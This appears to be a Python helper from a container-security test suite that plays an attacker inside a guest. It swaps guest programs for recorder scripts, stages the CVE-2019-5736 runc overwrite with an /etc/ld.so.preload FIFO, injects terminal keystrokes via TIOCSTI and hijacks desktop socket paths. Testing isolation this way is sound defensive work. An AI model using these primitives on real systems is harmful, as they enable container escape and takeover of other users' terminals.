# SPDX-License-Identifier: GPL-3.0-or-later
"""What happens when somebody enters: to programs of the guest, and to terminals."""

import fcntl
import os
import shutil
import subprocess
import termios
from pathlib import Path

from . import calls, mounts

RECORDS = "/opt/attacker/records"
KEPT = "/opt/attacker/kept"
_PRELOAD, _FIFO = "/etc/ld.so.preload", "/opt/attacker/fifo"
# Notes what it is run as, and becomes the true program.
_RECORDER = f"""#!{KEPT}/tool-sh
PATH={KEPT}:$PATH
{{
    tool-cat /proc/$$/status
    for kind in cgroup ipc mnt net pid user uts; do tool-readlink /proc/$$/ns/$kind; done
    for number in /proc/$$/fd/*; do tool-readlink $number; done
}} > {RECORDS}/NAME-$$ 2> /dev/null
exec {KEPT}/NAME "$@"
"""
_TOOLS = {"sh": "/bin/sh", "cat": "/bin/cat", "readlink": "/bin/readlink"}


def mount_over(source: str, place: str) -> None:
    """Mount a folder at a place."""
    os.makedirs(place, exist_ok=True)
    calls.mount(source, place, "", calls.MS_BIND)


def link_targets(runtime: str, target: str) -> None:
    """Have links to one file be where the sockets of a desktop go."""
    mounts.mount_memory(runtime)
    os.chmod(runtime, 0o777)
    for name in ("wayland-0", "pipewire-0", "bus"):
        os.symlink(target, f"{runtime}/{name}")


def unlink_targets(runtime: str) -> None:
    """Take them away."""
    mounts.take_away(runtime)


def replace(programs: list[str]) -> list[str]:
    """Have programs of the guest note what they are run as; return those that there are."""
    for folder in (RECORDS, KEPT):
        os.makedirs(folder, exist_ok=True)
        os.chmod(folder, 0o777)
    for name, path in _TOOLS.items():
        shutil.copy(os.path.realpath(path), f"{KEPT}/tool-{name}")
    there = [program for program in programs if os.path.exists(program)]
    for program in there:
        name = os.path.basename(program)
        os.rename(os.path.realpath(program), f"{KEPT}/{name}")
        _put(os.path.realpath(program), _RECORDER.replace("NAME", name))
    return there


def _put(path: str, text: str) -> None:
    Path(path + ".new").write_text(text)
    os.chmod(path + ".new", 0o755)
    os.rename(path + ".new", path)


def run_by_itself(program: str) -> None:
    """Have a program of the guest be run by the program that executes it: CVE-2019-5736.

    The loader of all programs waits from now on, until `let_run`: ld.so(8), /etc/ld.so.preload.
    """
    os.makedirs(KEPT, exist_ok=True)
    if not os.path.exists(_FIFO):
        os.mkfifo(_FIFO)
    Path(_PRELOAD).write_text(_FIFO)
    real = os.path.realpath(program)
    os.rename(real, f"{KEPT}/{os.path.basename(program)}")
    _put(real, "#!/proc/self/exe\n")


def let_run(programs: list[str]) -> None:
    """Let programs be as they were."""
    os.unlink(_PRELOAD)
    os.unlink(_FIFO)
    restore(programs)


def restore(programs: list[str]) -> None:
    """Put the true programs back."""
    for program in programs:
        kept = f"{KEPT}/{os.path.basename(program)}"
        if os.path.lexists(kept):
            os.rename(kept, os.path.realpath(program))


def records() -> dict[str, str]:
    """Return what was noted so far, and forget it."""
    found = {}
    for entry in sorted(os.listdir(RECORDS)):
        path = Path(RECORDS, entry)
        found[entry] = path.read_text()
        path.unlink()
    return found


def recorded() -> list[str]:
    """Return which programs noted something."""
    return sorted(os.listdir(RECORDS))


def end_logins(user: str) -> None:
    """End a user's sessions, so that the next one begins with a login."""
    subprocess.run(["loginctl", "terminate-user", user], check=False, capture_output=True)


def push_input(text: str) -> None:
    """Push characters into the terminal's input, as if they were typed: ioctl_tty(2), TIOCSTI."""
    descriptor = os.open("/dev/tty", os.O_RDWR)
    for letter in text:
        fcntl.ioctl(descriptor, termios.TIOCSTI, letter.encode())


def terminals() -> list[str]:
    """Return where the terminals lead that any process of the container has open."""
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            numbers = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for number in numbers:
            way = f"/proc/{pid}/fd/{number}"
            try:
                if not os.readlink(way).startswith("/dev/pts/"):
                    continue
                descriptor = os.open(way, os.O_RDWR | os.O_NOCTTY)
            except OSError:
                continue
            status = os.fstat(descriptor)
            found.add(f"{status.st_dev}:{status.st_rdev}")
            os.close(descriptor)
    return sorted(found)
